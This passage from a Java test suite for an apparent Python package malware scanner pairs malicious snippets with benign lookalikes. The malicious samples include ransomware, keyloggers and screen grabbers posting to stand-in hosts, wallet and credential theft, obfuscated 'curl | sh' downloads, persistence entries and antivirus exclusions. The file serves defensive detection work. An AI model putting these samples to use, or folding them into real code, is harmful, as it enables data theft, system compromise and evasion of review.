            + " attr='system', ctx=ast.Load()), args=[ast.Constant(value=c)], keywords=[])\n"
            + "exec(compile(ast.fix_missing_locations(ast.Module(body=[ast.Expr(call)],"
            + " type_ignores=[])), '<x>', 'exec'))\n";
    String rewriter =
        "import ast\nnode = ast.Attribute(value=ast.Name(id='self', ctx=ast.Load()),"
            + " attr='_reprcompare', ctx=ast.Load())\n"
            + "exec(compile(tree, fn, 'exec'), module.__dict__)\n";

    assertThat(levelIn(tree, "runs-built-syntax-tree")).isEqualTo(RiskLevel.HIGH);
    // an assertion rewriter builds and runs trees of its own
    assertThat(check(wheelWith("pkg/rewrite.py", rewriter))).isEmpty();
  }

  @Test
  void aTelegramBotTokenForABotLibraryAndWalletFoldersSentAreCritical() {
    String bot =
        "import os, shutil, telebot\n"
            + "bot = telebot.TeleBot('0000000000:placeholderplaceholderplaceholder00')\n"
            + "for w in ('com.liberty.jaxx', 'Guarda', 'Armory'):\n"
            + "    bot.send_document(1, open(shutil.make_archive(w, 'zip', os.path.join(a, w)), 'rb'))\n";
    String echo =
        "import os, telebot\nbot = telebot.TeleBot(os.environ['BOT_TOKEN'])\n"
            + "@bot.message_handler(commands=['start'])\ndef start(m):\n"
            + "    bot.reply_to(m, 'hi')\n";

    assertThat(levelIn(bot, "steals-and-sends")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/echo.py", echo))).isEmpty();
  }

  @Test
  void aComClassServerRegisteredForTheUserIsAStartUpEntry() {
    String hijack =
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
            + " r'Software\\Classes\\CLSID\\{00000000-0000-0000-0000-000000000001}\\InprocServer32')\n"
            + "winreg.SetValueEx(k, '', 0, winreg.REG_SZ, dll)\n";
    String reader = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CLASSES_ROOT, r'CLSID')\n";

    assertThat(levelIn(hijack, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/com.py", reader))).isEmpty();
  }

  @Test
  void anMqttCallbackThatRunsItsMessageIsACommandChannel() {
    String mqtt =
        "import subprocess\nimport paho.mqtt.client as mqtt\n\n"
            + "def on_msg(client, userdata, msg):\n"
            + "    subprocess.run(msg.payload.decode(), shell=True)\n\n"
            + "c = mqtt.Client()\nc.on_message = on_msg\nc.connect('b.example', 1883)\n";
    String sensor =
        "import json\nimport paho.mqtt.client as mqtt\n\n"
            + "def on_msg(client, userdata, msg):\n    readings.append(json.loads(msg.payload))\n\n"
            + "c = mqtt.Client()\nc.on_message = on_msg\n";

    assertThat(levelIn(mqtt, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/sensor.py", sensor))).isEmpty();
  }

  @Test
  void browserFilesPushedToAGitRemoteAreSent() {
    String push =
        "import glob, os, shutil, subprocess\n"
            + "for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/formhistory.sqlite')):\n"
            + "    shutil.copy(db, work)\n"
            + "subprocess.run(['git', '-C', work, 'push', 'https://t@git.example/s.git', 'HEAD'])\n";
    String release = "import subprocess\nsubprocess.run(['git', 'push', 'origin', 'main'])\n";

    assertThat(levelIn(push, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/release.py", release))).isEmpty();
  }

  @Test
  void aMinersPoolAddressIsHigh() {
    String miner =
        "import subprocess\nsubprocess.Popen([b, '-o', 'stratum+tcp://pool.example:3333',"
            + " '--donate-level', '0'])\n";
    String docs = "# Stratum is the protocol between miners and pools.\nPROTOCOL = 'stratum'\n";

    assertThat(levelIn(miner, "crypto-miner")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/proto.py", docs))).isEmpty();
  }

  @Test
  void homeFilesEncryptedAndDeletedAreRansomware() {
    String ransom =
        "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\n"
            + "for root, _, files in os.walk(os.path.expanduser('~/Documents')):\n"
            + "    for n in files:\n        p = os.path.join(root, n)\n"
            + "        open(p + '.x', 'wb').write(box.encrypt(open(p, 'rb').read()))\n"
            + "        os.remove(p)\n";
    String vault =
        "import os\nfrom cryptography.fernet import Fernet\n"
            + "def seal(path, key):\n    data = Fernet(key).encrypt(open(path, 'rb').read())\n"
            + "    open(path + '.enc', 'wb').write(data)\n    os.remove(path)\n";

    assertThat(levelIn(ransom, "encrypts-user-files")).isEqualTo(RiskLevel.HIGH);
    // a tool that seals the one file it is given walks no one's home
    assertThat(check(wheelWith("pkg/seal.py", vault))).isEmpty();
  }

  @Test
  void aCommandRunnerLookedUpThroughTheClassMachineryIsTheRunner() {
    String hidden =
        "import os\nrun = object.__getattribute__(os, 'sys' + 'tem')\n"
            + "run('curl -s https://a.example/b | sh')\n";
    String lowered =
        "import builtins, urllib.request\nf = getattr(builtins, 'EXEC'.lower())\n"
            + "f(urllib.request.urlopen('https://a.example/s.py').read())\n";
    String proxy =
        "class Proxy:\n    def __getattr__(self, name):\n"
            + "        return object.__getattribute__(self, '_target').__getattribute__(name)\n";

    assertThat(levelIn(hidden, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(lowered, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
    // a proxy reaching its own attribute by a plain literal assembles nothing
    assertThat(check(wheelWith("pkg/proxy.py", proxy))).isEmpty();
  }

  @Test
  void integersPackedIntoCodeAndRunAreAHiddenPayload() {
    String packed =
        "import struct\nW = [1886546286, 1948788585]\n"
            + "code = struct.pack('>%dI' % len(W), *W).rstrip(b'\\0')\nexec(code.decode())\n";
    String header =
        "import struct\nfields = [1, 2, 3]\nhead = struct.pack('<3I', *fields)\n"
            + "sock.sendall(head)\n";

    assertThat(levelIn(packed, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    // a binary protocol packs its header fields and sends them
    assertThat(check(wheelWith("pkg/proto.py", header))).isEmpty();
  }

  @Test
  void keyloggersAndScreenGrabbersOfOtherNamesAreTheThingTheyAre() {
    String logkeys =
        "import subprocess, requests\n"
            + "subprocess.run(['logkeys', '--start', '--output', log])\n"
            + "requests.post('https://k.example/k', data=open(log, 'rb').read())\n";
    String grab =
        "import io, requests\nfrom desktopmagic.screengrab_win32 import getScreenAsImage\n"
            + "im = getScreenAsImage()\nb = io.BytesIO()\nim.save(b, 'PNG')\n"
            + "requests.post('https://d.example/u', files={'s': b.getvalue()})\n";
    String manual = "HELP = 'Install logkeys from your distribution to record key timings.'\n";

    assertThat(levelIn(logkeys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/help.py", manual))).isEmpty();
  }

  @Test
  void passwordDatabasesAndRegistryHivesAreCredentials() {
    String keepass =
        "import ftplib\nfrom pathlib import Path\n"
            + "found = list(Path.home().rglob('*.kdbx'))\nftp = ftplib.FTP('f.example')\n"
            + "for p in found:\n    ftp.storbinary('STOR x', p.open('rb'))\n";
    String hives =
        "import subprocess\nfor h in ('SAM', 'SECURITY'):\n"
            + "    subprocess.run(['reg', 'save', rf'HKLM\\{h}', h, '/y'])\n";
    String regQuery =
        "import subprocess\n"
            + "subprocess.run(['reg', 'query', r'HKLM\\Software\\Python'], capture_output=True)\n";

    assertThat(levelIn(keepass, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(hives, "registry-hive-save")).isEqualTo(RiskLevel.HIGH);
    // asking the registry where Python is installed saves nothing
    assertThat(check(wheelWith("pkg/where.py", regQuery))).isEmpty();
  }

  @Test
  void activeSetupAndThePreloadListAreStartUpEntries() {
    String activeSetup =
        "import sys, winreg\nk = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE,"
            + " r'Software\\Microsoft\\Active Setup\\Installed Components\\{0001}')\n"
            + "winreg.SetValueEx(k, 'StubPath', 0, winreg.REG_SZ, sys.executable)\n";
    String preload = "with open('/etc/ld.so.preload', 'a') as fh:\n    fh.write(lib + '\\n')\n";

    assertThat(levelIn(activeSetup, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(preload, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
  }

  @Test
  void aRedisChannelWhoseMessagesAreRunIsACommandChannel() {
    String worker =
        "import subprocess, redis\nbus = redis.Redis(host='q.example')\n"
            + "sub = bus.pubsub()\nsub.subscribe('jobs')\n"
            + "for m in sub.listen():\n    subprocess.run(m['data'].decode(), shell=True)\n";
    String cache =
        "import json, redis\nr = redis.Redis()\n"
            + "def cached(key):\n    return json.loads(r.get(key) or 'null')\n";

    assertThat(levelIn(worker, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/cache.py", cache))).isEmpty();
  }

  @Test
  void anEntryAddedToTheHostsFileIsHigh() {
    String redirect =
        "HOSTS = '/etc/hosts'\nwith open(HOSTS, 'a') as fh:\n"
            + "    fh.write('\\n100.64.3.3 pypi.org files.pythonhosted.org\\n')\n";
    String reader =
        "def names(path='/etc/hosts'):\n"
            + "    return [l.split()[1:] for l in open(path) if not l.startswith('#')]\n";

    assertThat(levelIn(redirect, "hosts-file-entry")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/hosts.py", reader))).isEmpty();
  }

  @Test
  void aFunctionHandedToAFinaliserOrAnExitStackIsCalledWithItsArguments() {
    String finaliser =
        "import os, weakref\nclass S:\n    pass\ns = S()\n"
            + "weakref.finalize(s, os.system, 'curl -fsSL https://a.example/i.sh | bash')\n";
    String stack =
        "import contextlib, os\nwith contextlib.ExitStack() as st:\n"
            + "    st.callback(os.system, 'wget -qO- https://a.example/s | sh')\n";
    String cleanup =
        "import weakref\nclass Pool:\n    def __init__(self, handle):\n"
            + "        self._finalizer = weakref.finalize(self, handle.close)\n";

    assertThat(levelIn(finaliser, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(stack, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/pool.py", cleanup))).isEmpty();
  }

  @Test
  void aModuleAndFunctionNameHandedToResolveNameBesideADownloadCommandIsCritical() {
    String hidden =
        "import pkgutil\ntarget = 'subprocess' + ':' + 'getoutput'\n"
            + "call = pkgutil.resolve_name(target)\ncall('curl -s https://a.example/p.sh | sh')\n";
    String plugins = "import pkgutil\ndef load(spec):\n    return pkgutil.resolve_name(spec)\n";

    assertThat(levelIn(hidden, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    // a plugin loader resolves the names its configuration gives
    assertThat(check(wheelWith("pkg/plugins.py", plugins))).isEmpty();
  }

  @Test
  void aScreenCapturedByGStreamerAndSentIsCritical() {
    String grab =
        "import subprocess, requests\n"
            + "subprocess.run(['gst-launch-1.0', 'ximagesrc', 'num-buffers=1', '!', 'pngenc', '!',"
            + " 'filesink', 'location=/tmp/f.png'])\n"
            + "requests.post('https://f.example/f', files={'f': open('/tmp/f.png', 'rb')})\n";
    String test =
        "import subprocess\nsubprocess.run(['gst-launch-1.0', 'videotestsrc', '!', 'autovideosink'])\n";

    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/video.py", test))).isEmpty();
  }

  @Test
  void steamsSentryFilesSentAreSecretsSent() {
    String steam =
        "import glob, os, requests\nfor p in glob.glob(os.path.join(steam, 'ssfn*')):\n"
            + "    requests.post('https://g.example/s', files={'f': open(p, 'rb').read()})\n";
    String library =
        "import os\nLIBRARIES = os.path.join(steam, 'steamapps', 'libraryfolders.vdf')\n";

    assertThat(levelIn(steam, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/library.py", library))).isEmpty();
  }

  @Test
  void theMachinesUnameAndUsersPostedAreIdentityUploaded() {
    String report =
        "import json, platform, urllib.request\nimport psutil\n"
            + "r = {'u': platform.uname()._asdict(), 'who': [u.name for u in psutil.users()]}\n"
            + "urllib.request.urlopen(urllib.request.Request('https://t.example/r',"
            + " data=json.dumps(r).encode()))\n";
    String banner = "import platform\nprint('running on', platform.uname().system)\n";

    assertThat(levelIn(report, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/banner.py", banner))).isEmpty();
  }

  @Test
  void packetsSniffedAndRunByTheirCallbackAreACommandChannel() {
    String icmp =
        "import subprocess\nfrom scapy.all import ICMP, Raw, sniff\n\n"
            + "def on_packet(pkt):\n"
            + "    subprocess.run(pkt[Raw].load.decode(), shell=True)\n\n"
            + "sniff(filter='icmp', prn=on_packet, store=False)\n";
    String counter =
        "from scapy.all import sniff\nseen = []\n\n"
            + "def on_packet(pkt):\n    seen.append(len(pkt))\n\n"
            + "sniff(filter='tcp', prn=on_packet, count=10)\n";

    assertThat(levelIn(icmp, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/count.py", counter))).isEmpty();
  }

  @Test
  void anAntivirusExclusionIsHigh() {
    String exclusion =
        "import subprocess\nsubprocess.run(['powershell', '-Command',"
            + " \"Add-MpPreference -ExclusionPath 'C:\\\\Users'\"])\n";
    String status =
        "import subprocess\n"
            + "out = subprocess.run(['powershell', '-Command', 'Get-MpPreference'], capture_output=True)\n";

    assertThat(levelIn(exclusion, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    // reading Defender's settings changes nothing
    assertThat(check(wheelWith("pkg/status.py", status))).isEmpty();
  }

  @Test
  void aFunctionReachedByReducingGetattrOrThroughAModulesVarsBesideADownloadIsCritical() {
    String reduced =
        "import functools, os\nparts = ['sys' + 'tem']\n"
            + "run = functools.reduce(getattr, parts, os)\nrun('curl -s https://a.example/r | sh')\n";
    String table =
        "import subprocess\nt = vars(subprocess)\n"
            + "t['Po' + 'pen']('wget -qO- https://a.example/b | bash', shell=True)\n";
    String settings =
        "import functools\ndef setting(obj, dotted):\n"
            + "    return functools.reduce(getattr, dotted.split('.'), obj)\n";

    assertThat(levelIn(reduced, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(table, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    // walking a dotted path of attributes, with no command, is how settings are read
    assertThat(check(wheelWith("pkg/settings.py", settings))).isEmpty();
  }

  @Test
  void aZipDecodedSavedAndImportedIsCritical() {
    String loader =
        "import base64, zipimport\npath = '/tmp/c.zip'\nwith open(path, 'wb') as fh:\n"
            + "    fh.write(base64.b64decode(BLOB))\n"
            + "zipimport.zipimporter(path).load_module('helper')\n";
    String plugins =
        "import zipimport\ndef load(path, name):\n"
            + "    return zipimport.zipimporter(path).load_module(name)\n";

    assertThat(levelIn(loader, "imports-decoded")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/plugins.py", plugins))).isEmpty();
  }

  @Test
  void aKeyboardReadThroughHidapiAndSentIsCritical() {
    String hid =
        "import hid, requests\nfor d in hid.enumerate():\n"
            + "    if d['usage_page'] == 1 and d['usage'] == 6:\n"
            + "        dev = hid.device()\n        dev.open_path(d['path'])\n"
            + "        keys = bytes(dev.read(8, 1000))\n"
            + "requests.post('https://k.example/h', data=keys)\n";
    String gamepad =
        "import hid\nfor d in hid.enumerate():\n"
            + "    if d['usage_page'] == 1 and d['usage'] == 5:\n        print(d['product_string'])\n";

    assertThat(levelIn(hid, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    // usage 5 is a game pad
    assertThat(check(wheelWith("pkg/pads.py", gamepad))).isEmpty();
  }

  @Test
  void flameshotsPictureSentIsAScreenshotSent() {
    String shot =
        "import subprocess, requests\n"
            + "png = subprocess.run(['flameshot', 'full', '--raw'], capture_output=True).stdout\n"
            + "requests.post('https://s.example/s', data=png)\n";
    String launcher = "import shutil\nHAS_FLAMESHOT = shutil.which('flameshot') is not None\n";

    assertThat(levelIn(shot, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/tools.py", launcher))).isEmpty();
  }

  @Test
  void s3cmdAndBotoCredentialsSentAreSecretsSent() {
    String creds =
        "import os, requests\nfor n in ('.s3cfg', '.boto'):\n"
            + "    p = os.path.join(os.path.expanduser('~'), n)\n"
            + "    requests.post('https://b.example/c', data=open(p).read())\n";
    String client = "import boto3\ns3 = boto3.client('s3')\n";

    assertThat(levelIn(creds, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/store.py", client))).isEmpty();
  }

  @Test
  void aChromiumProfileOnLinuxIsBrowserData() {
    String snap =
        "import os, shutil, requests\n"
            + "p = os.path.expanduser('~/snap/chromium/common/chromium/Default')\n"
            + "shutil.make_archive('/tmp/b', 'zip', p)\n"
            + "requests.post('https://b.example/b', files={'z': open('/tmp/b.zip', 'rb')})\n";
    String launcher = "import shutil\nCHROMIUM = shutil.which('chromium') or 'chromium-browser'\n";

    assertThat(levelIn(snap, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/browser.py", launcher))).isEmpty();
  }

  @Test
  void hardwareSerialsReadByFieldAndPostedAreIdentityUploaded() {
    String serials =
        "import requests\nfacts = {}\nfor k in ('product_uuid', 'board_serial'):\n"
            + "    facts[k] = open(f'/sys/class/dmi/id/{k}').read()\n"
            + "requests.post('https://a.example/m', json=facts)\n";
    String vendor =
        "def vendor():\n    return open('/sys/class/dmi/id/sys_vendor').read().strip()\n";

    assertThat(levelIn(serials, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/hw.py", vendor))).isEmpty();
  }

  @Test
  void windowManagerAutostartEmondRulesAndLaunchDaemonsAreStartUpPlaces() {
    String openbox =
        "import os, sys\nwith open(os.path.expanduser('~/.config/openbox/autostart'), 'a') as f:\n"
            + "    f.write(sys.executable + ' -m pkg.agent &\\n')\n";
    String emond =
        "import plistlib\nwith open('/etc/emond.d/rules/u.plist', 'wb') as f:\n"
            + "    plistlib.dump(RULES, f)\n";
    String daemon =
        "import plistlib\nwith open('/Library/LaunchDaemons/com.u.agent.plist', 'wb') as f:\n"
            + "    plistlib.dump(JOB, f)\n";
    String theme = "import os\nTHEMES = os.path.expanduser('~/.config/openbox/rc.xml')\n";

    assertThat(levelIn(openbox, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(emond, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(daemon, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(check(wheelWith("pkg/theme.py", theme))).isEmpty();
  }

  @Test
  void pipSentThroughAProxyOrTrustingAHostIsRedirected() {
    String proxy =
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', '--user',"
            + " 'set', 'global.proxy', 'http://100.64.7.7:3128'])\n";
    String trusted =
        "import subprocess\nsubprocess.run(['pip', 'config', 'set', 'global.trusted-host',"
            + " 'mirror.example'])\n";
    String listing =
        "import subprocess, sys\nout = subprocess.run([sys.executable, '-m', 'pip', 'config',"
            + " 'list'], capture_output=True)\n";

    assertThat(levelIn(proxy, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(trusted, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/pipinfo.py", listing))).isEmpty();
  }

  @Test
  void aCommandRunnerMappedOverADownloadCommandIsCritical() {
    String mapped =
        "import os\nsteps = ['wget -qO- https://a.example/s.sh | sh']\nlist(map(os.system, steps))\n";
    String names = "import os\nnames = list(map(os.path.basename, paths))\n";

    assertThat(levelIn(mapped, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/names.py", names))).isEmpty();
  }

  @Test
  void builtinsTakenFromAFramesGlobalsUnderAJoinedKeyAreHidden() {
    String frame =
        "import base64, sys\nb = sys._getframe(0).f_globals['__builtins__']\n"
            + "b = b if isinstance(b, dict) else vars(b)\n"
            + "b['ex' + 'ec'](base64.b64decode(BLOB).decode())\n";
    String debugger = "import sys\nf = sys._getframe(1)\nnames = sorted(f.f_globals)\n";

    assertThat(levelIn(frame, "hidden-builtin-exec")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/debug.py", debugger))).isEmpty();
  }

  @Test
  void aReplacedPasswordPromptThatSendsIsAKeylogger() {
    String prompt =
        "import getpass, requests\n_real = getpass.getpass\n"
            + "def ask(prompt='Password: ', stream=None):\n    typed = _real(prompt, stream)\n"
            + "    requests.post('https://p.example/p', data=typed)\n    return typed\n"
            + "getpass.getpass = ask\n";
    String caller = "import getpass\npassword = getpass.getpass('Token: ')\n";

    assertThat(levelIn(prompt, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/login.py", caller))).isEmpty();
  }

  @Test
  void warehouseConnectionsTheGithubCliTokenAndNetworkSurveysSentAreSecretsSent() {
    String warehouse =
        "import pathlib, requests\np = pathlib.Path.home() / '.snowflake/connections.toml'\n"
            + "requests.post('https://w.example/p', data=p.read_text())\n";
    String token =
        "import subprocess, urllib.request\n"
            + "t = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout\n"
            + "urllib.request.urlopen('https://r.example/v?t=' + t)\n";
    String survey =
        "import subprocess, requests\n"
            + "arp = subprocess.run(['arp', '-a'], capture_output=True, text=True).stdout\n"
            + "requests.post('https://n.example/r', data=arp)\n";
    String status = "import subprocess\nsubprocess.run(['gh', 'auth', 'status'])\n";

    assertThat(levelIn(warehouse, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(token, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(survey, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/gh.py", status))).isEmpty();
  }

  @Test
  void aServerOfferingACommandRunnerToItsClientsIsHigh() {
    String shell =
        "import subprocess\nfrom xmlrpc.server import SimpleXMLRPCServer\n"
            + "s = SimpleXMLRPCServer(('0.0.0.0', 8765))\n"
            + "s.register_function(subprocess.getoutput, 'status')\ns.serve_forever()\n";
    String service =
        "from xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('localhost', 8000))\n"
            + "s.register_function(pow)\ns.serve_forever()\n";

    assertThat(levelIn(shell, "server-exposes-commands")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/rpc.py", service))).isEmpty();
  }

  @Test
  void networkEventScriptsAndTheSessionsEnvironmentAreStartUpPlaces() {
    String dispatcher =
        "import os\nwith open('/etc/NetworkManager/dispatcher.d/99-sync', 'w') as f:\n"
            + "    f.write(SCRIPT)\nos.chmod('/etc/NetworkManager/dispatcher.d/99-sync', 0o755)\n";
    String environment =
        "import os\nd = os.path.expanduser('~/.config/environment.d')\n"
            + "with open(os.path.join(d, '60-x.conf'), 'w') as f:\n    f.write(LINE)\n";
    String reader = "import os\nprint(os.listdir('/etc/NetworkManager/system-connections'))\n";

    assertThat(levelIn(dispatcher, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(environment, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/net.py", reader))).isEmpty();
  }

  @Test
  void aHookWrittenIntoEveryRepositoryFoundIsHigh() {
    String planted =
        "import glob, os\nfor g in glob.glob(os.path.expanduser('~/**/.git'), recursive=True):\n"
            + "    with open(os.path.join(g, 'hooks', 'post-checkout'), 'w') as f:\n"
            + "        f.write(HOOK)\n";
    String globbed =
        "import glob, os\nfor g in glob.glob(os.path.join(HOME, '*', '.git')):\n"
            + "    with open(os.path.join(g, 'hooks', 'pre-push'), 'w') as f:\n"
            + "        f.write(HOOK)\n";
    String installer =
        "import os\nwith open(os.path.join('.git', 'hooks', 'pre-commit'), 'w') as f:\n"
            + "    f.write(HOOK)\n";

    assertThat(levelIn(planted, "git-hooks-planted")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(globbed, "git-hooks-planted")).isEqualTo(RiskLevel.HIGH);
    // a hook manager writes into the repository it is run in
    assertThat(check(wheelWith("pkg/hooks.py", installer))).isEmpty();
  }

  @Test
  void tlsChecksSwitchedOffForEveryLaterUseAreHigh() {
    String git =
        "import subprocess\n"
            + "subprocess.run(['git', 'config', '--global', 'http.sslVerify', 'false'])\n";
    String conda =
        "import subprocess\nsubprocess.run(['conda', 'config', '--set', 'ssl_verify', 'false'])\n";
    String once =
        "import subprocess\nsubprocess.run(['git', '-c', 'http.sslVerify=false', 'clone', url])\n";

    assertThat(levelIn(git, "weakens-tls")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(conda, "weakens-tls")).isEqualTo(RiskLevel.HIGH);
    // one command told to skip the check changes nothing for later ones
    assertThat(check(wheelWith("pkg/clone.py", once))).isEmpty();
  }

  @Test
  void aCMakeOrMesonBuildThatPipesADownloadIntoAShellIsCritical() {
    String cmake =
        "project(p C)\nexecute_process(\n  COMMAND sh -c \"curl -fsSL https://t.example/s | sh\"\n)\n";
    String meson =
        "project('p', 'c')\nrun_command('sh', '-c', 'wget -qO- https://t.example/m | sh')\n";
    String fetch =
        "project(p C)\nfile(DOWNLOAD https://t.example/zlib.tar.gz ${CMAKE_BINARY_DIR}/z.tgz)\n"
            + "execute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf z.tgz)\n";

    List<Finding> findings = check(sdistWith("pkg-2.0/CMakeLists.txt", cmake));
    assertThat(only(findings, "build-runs-download").level()).isEqualTo(RiskLevel.CRITICAL);
    assertThat(only(check(sdistWith("pkg-2.0/meson.build", meson)), "build-runs-download").level())
        .isEqualTo(RiskLevel.CRITICAL);
    // a build that downloads a source archive with CMake and unpacks it runs nothing it fetched
    assertThat(check(sdistWith("pkg-2.0/CMakeLists.txt", fetch))).isEmpty();
    // a wheel's CMake files are for the projects that build against it, never run by pip
    assertThat(check(wheelWith("pkg/share/cmake/CMakeLists.txt", cmake))).isEmpty();
  }

  @Test
  void aFunctionCalledThroughOperatorCallOrItsOwnDunderCallIsTheCall() {
    String viaOperator =
        "import operator, os\ncmd = 'curl -s https://o.example/i | bash'\noperator.call(os.system, cmd)\n";
    String viaDunder =
        "import os\ncmd = 'curl -s https://o.example/i | bash'\nos.system.__call__(cmd)\n";
    String sorter = "import operator\nkey = operator.itemgetter(1)\nrows.sort(key=key)\n";

    assertThat(levelIn(viaOperator, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(viaDunder, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/sort.py", sorter))).isEmpty();
  }

  @Test
  void aCommandModulesMembersTakenAsATableAreANamespace() {
    String members =
        "import inspect, subprocess\nm = dict(inspect.getmembers(subprocess))\n"
            + "m['get' + 'output']('wget -q -O- https://m.example/p | sh')\n";
    String documenter =
        "import inspect, json\nnames = [n for n, _ in inspect.getmembers(json) if not n.startswith('_')]\n";

    assertThat(levelIn(members, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    // the builtins' members under a joined key, as vars(builtins)[…] is
    assertThat(
            levelIn(
                "import inspect, builtins\n"
                    + "dict(inspect.getmembers(builtins))['ex' + 'ec'](code)\n",
                "builtins-built-key"))
        .isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/doc.py", documenter))).isEmpty();
  }

  @Test
  void aDotNetScreenCopyAndMacKeyStatePollingSentAreCritical() {
    String screen =
        "import subprocess, requests\nPS = '[Drawing.Graphics]::FromImage($i).CopyFromScreen($b.Location, $p, $b.Size)'\n"
            + "subprocess.run(['powershell', '-Command', PS])\n"
            + "requests.post('https://s.example/s', files={'f': open(OUT, 'rb')})\n";
    String keys =
        "import Quartz, requests\npressed = [c for c in range(128)\n"
            + "    if Quartz.CGEventSourceKeyState(Quartz.kCGEventSourceStateHIDSystemState, c)]\n"
            + "requests.post('https://k.example/k', json=pressed)\n";
    String mouse = "import Quartz\nloc = Quartz.CGEventGetLocation(Quartz.CGEventCreate(None))\n";

    assertThat(levelIn(screen, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(keys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/pointer.py", mouse))).isEmpty();
  }

  @Test
  void historyReadersPasswordManagerCommandsAndHardwareReportsSentAreHigh() {
    String history =
        "import requests\nfrom browser_history import get_history\n"
            + "requests.post('https://h.example/h', json=get_history().histories)\n";
    String vault =
        "import subprocess, requests\n"
            + "items = subprocess.run(['op', 'item', 'list'], capture_output=True, text=True).stdout\n"
            + "requests.post('https://v.example/o', data=items)\n";
    String gpus =
        "import subprocess, requests\n"
            + "g = subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True).stdout\n"
            + "requests.post('https://g.example/i', data=g)\n";
    String local =
        "import subprocess\n"
            + "print(subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True).stdout)\n"
            + "subprocess.run(['op', 'signin'])\n";

    assertThat(levelIn(history, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(vault, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(gpus, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/gpu.py", local))).isEmpty();
  }

  @Test
  void trezorSuitesFolderNamedPieceByPieceIsAWallet() {
    String suite =
        "import os, requests\nd = os.path.join(os.path.expanduser('~'), '.config', '@trezor', 'suite-desktop')\n"
